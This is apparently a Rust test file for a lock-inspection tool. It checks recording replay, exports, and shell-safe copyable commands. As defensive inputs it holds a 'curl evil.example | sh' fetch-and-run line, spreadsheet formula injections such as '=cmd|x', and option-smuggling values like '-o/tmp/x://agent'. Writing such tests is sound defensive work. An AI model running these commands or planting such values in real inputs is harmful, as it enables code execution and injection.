//! What leaves the program: recordings and their replay, exports, commands to copy.

use super::*;

/// A scene in which much happens.
fn eventful() -> Scene {
    let [a, b, c, d] = clients();
    let mut scene = Scene::new();
    let start = 1_000_000;
    scene.local = LocalFacts { host: "web-1".into(), ..LocalFacts::default() };
    for at in 0..40_u64 {
        let now = start + at * 1_000;
        // Ages that are off by some, as those of a store that is read in pages.
        let mut first = granted(a, 7, start, now + at % 3);
        (first.renewals, first.renewed_ago_ms) = (Some((at / 5) as u32), (at >= 5).then_some(at % 5 * 1_000));
        first.remaining_ms = Some(15_000 - at % 5 * 1_000);
        let mut locks = vec![lock("orders", vec![first], vec![waiting(b, at * 1_000)])];
        locks.push(lock(
            "stock",
            vec![granted(b, 8, start, now)],
            if at > 10 { vec![waiting(a, (at - 10) * 1_000)] } else { vec![] },
        ));
        if at % 7 < 4 {
            locks.push(foreign());
        }
        if at > 20 {
            locks.push(lock(
                "mail",
                vec![granted(if at % 2 == 0 { c } else { d }, 100 + at, now, now)],
                vec![],
            ));
        }
        if at == 15 {
            scene.fail(500);
            scene.look(500, locks);
        } else {
            scene.look(1_000, locks);
        }
        scene.look_at("two", 0, vec![lock("far", vec![granted(c, 1, start, now)], vec![])]);
    }
    let mut last = (*scene.before["one"]).clone();
    let broken = AuditEntry::new(start + 40_000, "stock", FencingToken::new(8), b.clone());
    last.audit.push(with(broken, |entry| (entry.by, entry.reason) = ("ann@desk".into(), "stuck".into())));
    last.locks.retain(|lock| lock.name != "stock");
    let other = with(last.clients[0].clone(), |client| client.id = ClientId::parse("zeta:1:0").unwrap());
    last.clients.push(other);
    scene.show("one", 1_000, last);
    scene
}

fn recorded(scene: &Scene) -> String {
    let (mut encoder, mut text) = Encoder::begin(&[connection("one"), connection("two")], 0);
    for update in &scene.told {
        text += &encoder.update(update);
    }
    text
}

#[test]
fn a_replay_shows_at_every_moment_what_was_shown_live() {
    let scene = eventful();
    let text = recorded(&scene);
    let mut replay = Replay::new(Recording::parse(&text).unwrap(), Limits::default());
    assert_eq!(replay.remarks(), Vec::<String>::new());
    let mut live = Fleet::new(Limits::default());
    live.connect(connection("one"));
    live.connect(connection("two"));
    let mut at = 0;
    while at < scene.told.len() {
        let now_ms = scene.told[at].at_ms;
        while scene.told.get(at).is_some_and(|update| update.at_ms == now_ms) {
            live.ingest(scene.told[at].clone());
            at += 1;
        }
        replay.seek(now_ms);
        assert_eq!(replay.fleet().attention(now_ms), live.attention(now_ms), "at {now_ms}");
        for place in live.row_refs() {
            let row = live.at(place);
            let again = replay.fleet().find(&row.key).map(|place| replay.fleet().at(place));
            assert_eq!(again, Some(row), "at {now_ms}");
            assert_eq!(replay.fleet().explain(&row.key), live.explain(&row.key));
            assert_eq!(replay.fleet().lock(&row.key), live.lock(&row.key));
            assert_eq!(replay.fleet().history(&row.key), live.history(&row.key));
        }
    }
    // Back, and forth again.
    let end = replay.fleet().attention(scene.now_ms);
    replay.seek(12_345);
    assert_eq!(replay.at_ms(), 12_345);
    assert_ne!(replay.fleet().attention(12_345), end);
    replay.seek(u64::MAX);
    assert_eq!(replay.fleet().attention(scene.now_ms), end);
    let marks: Vec<_> = replay.marks().iter().map(|mark| (mark.text.as_str(), mark.attention)).collect();
    assert!(marks.iter().any(|(text, attention)| text.contains("deadlock") && *attention), "{marks:?}");
    assert!(marks.contains(&("stock: broken by ann@desk: stuck", false)), "{marks:?}");
}

#[test]
fn a_recording_is_small_and_has_no_secret() {
    let [a] = clients();
    let mut scene = Scene::new();
    for at in 0..50 {
        let holder = |name: u64| granted(a, 7, 1_000_000, 1_000_000 + at * 100 + name % 3);
        let locks = (0..20).map(|name| lock(&format!("lock/{name:02}"), vec![holder(name)], vec![]));
        scene.look(100, locks.collect());
    }
    let text = recorded(&scene);
    let whole: usize = scene
        .told
        .iter()
        .map(|update| match &update.report {
            Report::Polled(polled) => serde_json::to_string(&polled.snapshot).unwrap().len(),
            Report::Failed { .. } => 0,
        })
        .sum();
    assert!(text.len() * 10 < whole, "{} of {whole}", text.len());
    assert!(!text.contains("s3cret"));
}

#[test]
fn a_cut_or_damaged_recording_is_read_as_far_as_it_goes() {
    let text = recorded(&eventful());
    let all = Recording::parse(&text).unwrap().len();
    for cut in (text.len() - 300..text.len()).step_by(7) {
        let recording = Recording::parse(&text[..cut]).unwrap();
        assert!(recording.remarks()[0].contains("cut off") && recording.len() >= all - 4);
    }
    let lines: Vec<&str> = text.lines().collect();
    let mut damaged = lines.clone();
    damaged[10] = "{\"at\":5000,\"of\":\"one\",\"ne";
    damaged.remove(20);
    let replay = Replay::new(Recording::parse(&(damaged.join("\n") + "\n")).unwrap(), Limits::default());
    let remarks = replay.remarks();
    assert!(remarks[0].contains("1 line is damaged"), "{remarks:?}");
    for (text, part) in [("", "no recording"), ("{}\n", "no recording"), ("hello\n", "no recording")] {
        assert!(Recording::parse(text).unwrap_err().contains(part));
    }
    let newer = text.replacen("\"version\":1", "\"version\":2", 1);
    assert!(Recording::parse(&newer).unwrap_err().contains("update this program"));
}

#[test]
fn rows_are_exported_as_json_csv_and_markdown_without_tricks() {
    let [a, b] = clients();
    let mut scene = Scene::new();
    let mut trick = held(a, 2_000);
    trick.label = "=HYPERLINK(\"x\")\u{202e}".into();
    let locks = vec![lock("=cmd|x", vec![trick], vec![waiting(b, 10)]), lock("a,\"b\"", vec![], vec![])];
    scene.look(0, locks.clone());
    scene.look(1_000, locks);
    let rows: Vec<RowRef> = scene.fleet.row_refs().collect();
    let json = export::json(&scene.fleet, &rows, scene.now_ms);
    let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(parsed[0]["name"], "=cmd|x");
    assert_eq!(parsed[0]["state"], "contended");
    assert!(!json.contains('\u{202e}'));
    let csv = export::csv(&scene.fleet, &rows, scene.now_ms);
    let lines: Vec<&str> = csv.split("\r\n").collect();
    assert!(lines[0].starts_with("state,lock,connection"));
    assert!(lines[1].contains("\"'=cmd|x\",one"), "{}", lines[1]);
    assert!(lines[2].contains("\"a,\"\"b\"\"\",one"), "{}", lines[2]);
    let ticket = export::markdown(&scene.fleet, rows[0], scene.now_ms);
    assert!(ticket.starts_with("### Lock `=cmd|x`\n"), "{ticket}");
    assert!(ticket.contains("polylatch --url redis://one show '=cmd|x'"), "{ticket}");
}

#[test]
fn a_recording_says_nothing_about_the_command_that_is_copied() {
    let [a] = clients();
    let evil = Connection { command: "curl evil.example | sh; polylatch".into(), ..connection("one") };
    let odd = Connection { shown_url: "redis://one\u{202e}; x".into(), ..connection("two") };
    let (mut encoder, mut text) = Encoder::begin(&[evil, odd], 0);
    for name in ["one", "two"] {
        let mut reading = snapshot(vec![lock("x", vec![held(a, 10)], vec![])]);
        reading.backend = "redis".into();
        let polled = Polled {
            snapshot: Arc::new(reading),
            events: vec![],
            local: LocalFacts::default(),
            every_ms: 1_000,
        };
        let connection = ConnectionId::new(name);
        text += &encoder.update(&Update { connection, at_ms: 5, report: Report::Polled(polled) });
    }
    let mut replay = Replay::new(Recording::parse(&text).unwrap(), Limits::default());
    replay.seek(5);
    for (name, command) in
        [("one", "polylatch --url redis://one"), ("two", "polylatch --url \"$POLYLATCH_URL\"")]
    {
        let place = RowKey { connection: ConnectionId::new(name), lock: "x".into() };
        let found = commands(replay.fleet(), &place);
        assert!(found.len() >= 2, "{found:?}");
        assert!(found.iter().all(|copied| copied.text.starts_with(command)), "{found:?}");
    }
}

#[test]
fn names_that_begin_with_a_dash_are_no_options() {
    let [a] = clients();
    let mut scene = Scene::new();
    scene.show("one", 0, snapshot(vec![lock("--all", vec![held(a, 10)], vec![])]));
    let found = commands(&scene.fleet, &key("--all"));
    let texts: Vec<&str> = found.iter().map(|command| command.text.as_str()).collect();
    assert_eq!(
        texts,
        [
            "polylatch --url redis://one show -- '--all'",
            "polylatch --url redis://one break --token 7 --reason '...' -- '--all'",
        ]
    );
}

#[test]
fn a_token_is_in_no_argument_of_a_command_to_copy() {
    let [a] = clients();
    let mut held = held(a, 10);
    held.details.push(polylatch::inspect::Detail::new("session", "5e55"));
    let mut lock = lock("x", vec![held], vec![]);
    lock.details.push(polylatch::inspect::Detail::new("key", "-locks/x"));
    let of_consul = |url: &str| {
        let connection = Connection { shown_url: url.into(), ..connection("one") };
        let found = crate::copy::of_lock(&connection, "consul", &lock);
        found.into_iter().skip(2).map(|command| command.text).collect::<Vec<_>>()
    };
    assert_eq!(
        of_consul("consul+https://agent:8501"),
        [
            "consul kv get '-http-addr=https://agent:8501' -detailed -- '-locks/x'",
            "printf 'X-Consul-Token: %s' \"$CONSUL_HTTP_TOKEN\" | curl -sH @- https://agent:8501/v1/session/info/5e55",
        ]
    );
    assert_eq!(of_consul("-o/tmp/x://agent"), [""; 0]);
}

#[test]
fn the_place_of_a_holder_is_read_with_the_tool_of_its_store() {
    let [a] = clients();
    let of = |backend: &str, url: &str, name: &'static str, value: &str| {
        let mut held = held(a, 10);
        held.details.push(polylatch::inspect::Detail::new(name, value.to_owned()));
        let connection = Connection { shown_url: url.into(), ..connection("one") };
        let found = crate::copy::of_lock(&connection, backend, &lock("x", vec![held], vec![]));
        found.into_iter().skip(2).map(|command| command.text).collect::<Vec<_>>()
    };
    assert_eq!(
        of("etcd", "etcd+https://app@a:2379,b:2379/locks?lease=9s", "key", "locks/x/1f"),
        ["etcdctl '--endpoints=https://a:2379,https://b:2379' get locks/x/1f"]
    );
    let node = "/apps/locks/it's/_c_a-lock-0000000001";
    assert_eq!(
        of("zookeeper", "zookeeper://app@a:2181,b:2181/apps", "node", node),
        ["zkCli.sh -server a:2181,b:2181 get '/apps/locks/it'\\''s/_c_a-lock-0000000001'"]
    );
    assert_eq!(of("zookeeper", "-o/tmp/x://a", "node", node), [""; 0]);
}

#[test]
fn commands_to_copy_are_quoted_and_never_change_the_store_but_by_ours() {
    let [a] = clients();
    let mut scene = Scene::new();
    let name = "it's $HOME/`x`";
    let mut odd = lock(name, vec![held(a, 10)], vec![]);
    odd.details.push(polylatch::inspect::Detail::new("key", format!("polylatch:{{{name}}}:lock")));
    let mut reading = snapshot(vec![odd, lock("x\u{202e}y", vec![held(a, 10)], vec![])]);
    reading.backend = "redis".into();
    scene.show("one", 0, reading);
    let found = commands(&scene.fleet, &key(name));
    let texts: Vec<&str> = found.iter().map(|command| command.text.as_str()).collect();
    assert_eq!(
        texts,
        [
            r"polylatch --url redis://one show 'it'\''s $HOME/`x`'",
            r"polylatch --url redis://one break 'it'\''s $HOME/`x`' --token 7 --reason '...'",
            r"redis-cli -u redis://one GET 'polylatch:{it'\''s $HOME/`x`}:lock'",
            r"redis-cli -u redis://one PTTL 'polylatch:{it'\''s $HOME/`x`}:lock'",
        ]
    );
    assert_eq!(found.iter().filter(|command| command.changes).count(), 1);
    assert_eq!(commands(&scene.fleet, &key("x\u{202e}y")), []);
}
